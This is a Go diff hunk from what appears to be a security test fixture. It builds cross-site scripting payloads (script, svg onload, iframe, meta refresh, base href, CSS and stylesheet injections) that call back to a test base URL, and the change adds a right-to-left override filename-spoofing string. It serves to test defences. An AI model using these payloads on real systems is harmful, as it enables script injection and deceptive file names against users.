@@ -21,7 +21,7 @@ func newPayloads(base string) payloads {
 		RequestParameters: `{"name":"</td></tr></table><script>fetch('` + base + `/xss-rp')</script>","policy":"<style>body{background:url(` + base + `/xss-css)}</style>"}`,
 		Principal:         `arn:aws:iam::444455556666:user/"><svg onload="fetch('` + base + `/xss-principal')">`,
 		Region:            `us-east-1"><img src="` + base + `/xss-img">`,
-		Title:             `</title></rect></svg><script>fetch('` + base + `/xss-title')</script>`,
+		Title:             `</title></rect></svg><script>fetch('` + base + `/xss-title')</script>` + "\u202egpj.exe",
 		Trail:             `<iframe src="` + base + `/xss-iframe"></iframe>`,
 		Detail:            `<meta http-equiv="refresh" content="0;url=` + base + `/xss-refresh"><base href="` + base + `/xss-base/">`,
 		CommandArg:        `--out=<link rel=stylesheet href="` + base + `/xss-link.css">`,
